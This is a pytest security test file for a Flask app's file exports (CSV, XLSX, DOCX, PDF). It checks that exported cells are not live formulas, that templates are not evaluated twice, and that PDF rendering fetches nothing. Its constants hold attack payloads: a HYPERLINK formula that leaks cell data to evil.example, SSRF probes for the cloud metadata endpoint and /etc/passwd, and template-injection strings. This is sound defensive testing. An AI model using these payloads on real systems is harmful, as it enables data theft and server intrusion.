"""What is taken away as a file: no text becomes a formula, nothing is fetched, no template is filled in twice."""

from __future__ import annotations

import csv
import io
import re
import socket
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from attacking import Attacked
from flask import Flask
from openpyxl import load_workbook
from planting import plant
from stage import Stage
from test_routes import OK, ROLES, TABLE
from werkzeug.test import TestResponse

from matchmaker.reports import pdf
from matchmaker.web.tables_out import FORMULAS

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"xem")'
FETCHES = "<img src='http://169.254.169.254/latest'><img src='file:///etc/passwd'><link rel=stylesheet href='http://127.0.0.1:9/x.css'>"
TEMPLATE = "{{ 7*7 }}{{ ''.__class__.__mro__ }}{% for x in (1,2) %}zzz{% endfor %}${7*7}<w:t>zzz</w:t>"
FILES = (".csv", "/csv", ".xlsx", ".docx", ".pdf")


@pytest.fixture
def attacked(staged_app: Flask, stage: Stage, staged_database: tuple[Path, Stage]) -> Attacked:
    return Attacked(staged_app, stage, staged_database[0])


def files(attacked: Attacked, *kinds: str) -> Iterator[tuple[str, TestResponse]]:
    """Every file of these kinds that somebody may take away, as staff get it."""
    for row in TABLE:
        path = row.path.split("?")[0]
        if row.route.startswith("GET") and path.endswith(FILES) and row.expected[ROLES.index("chau")] == OK:
            asked = [attacked.path(row.path)]
            if "any(docx, pdf" in row.route:
                asked = [re.sub(r"\.(docx|pdf|xlsx)", f".{kind.lstrip('.')}", asked[0]) for kind in (".docx", ".pdf", ".xlsx") if kind in kinds]
            for address in asked:
                if address.split("?")[0].endswith(kinds):
                    answer = attacked.ask("chau", "GET", address)
                    if answer.status_code == 200:
                        yield address, answer


def cells_of(answer: TestResponse) -> Iterator[str]:
    for row in csv.reader(io.StringIO(answer.text.lstrip("\ufeff"))):
        yield from row


@pytest.mark.parametrize("instead", [True, False])
def test_no_cell_of_any_table_is_a_formula(attacked: Attacked, instead: bool) -> None:
    plant(attacked.file, lambda place: f"{FORMULA}{place.row}", instead=instead)
    seen = 0
    for address, answer in files(attacked, ".csv", "/csv"):
        for cell in cells_of(answer):
            assert not cell.lstrip(" ").startswith(FORMULAS) or re.fullmatch(r"-?[\d.,]+", cell), (address, cell)
            seen += cell.startswith("'=")
    for address, answer in files(attacked, ".xlsx"):
        for sheet in load_workbook(io.BytesIO(answer.data)).worksheets:
            assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"], address
            seen += sum(str(cell.value).startswith("=") for row in sheet.iter_rows() for cell in row)
    assert seen > 0 or not instead


@pytest.mark.long
@pytest.mark.parametrize("typed", ["=1+1", "+84 912", "-5 tấn", "@SUM(A1)", "\t=1", "\r=1", "  =1"])
def test_tables_say_every_name_that_begins_like_a_formula_as_text(attacked: Attacked, typed: str) -> None:
    plant(attacked.file, lambda place: f"{typed} {place.row}", instead=True)
    for address, answer in files(attacked, ".csv", "/csv"):
        assert not [cell for cell in cells_of(answer) if cell.lstrip(" ").startswith(FORMULAS) and not re.fullmatch(r"-?[\d.,]+", cell)], address


def test_papers_fill_no_template_in_twice(attacked: Attacked) -> None:
    plant(attacked.file, lambda place: f"{TEMPLATE} {place.row}")
    made = 0
    for address, answer in files(attacked, ".docx"):
        with zipfile.ZipFile(io.BytesIO(answer.data)) as file:
            words = re.sub(r"<[^>]+>", "", file.read("word/document.xml").decode())
        if "{{ 7*7 }}" in words:
            made += 1
        assert "49$" not in words, address
        assert "zzzzzz" not in words.replace("&lt;w:t&gt;zzz", ""), address
    assert made > 0


@pytest.mark.long
@pytest.mark.skipif(not pdf.CAN_MAKE_PDF, reason="this machine lacks libpango")
def test_papers_fetch_nothing(attacked: Attacked, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every PDF, with an address in every field: no name is looked up and no line is opened."""
    plant(attacked.file, lambda place: f"{FETCHES} {place.row}")
    tried: list[object] = []

    def refuse(*said: object, **more: object) -> None:
        tried.append(said)
        raise OSError("no network here")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    made = [answer.data for _address, answer in files(attacked, ".pdf")]
    assert made
    assert all(data.startswith(b"%PDF") and b"root:x:0" not in data for data in made)
    assert tried == []
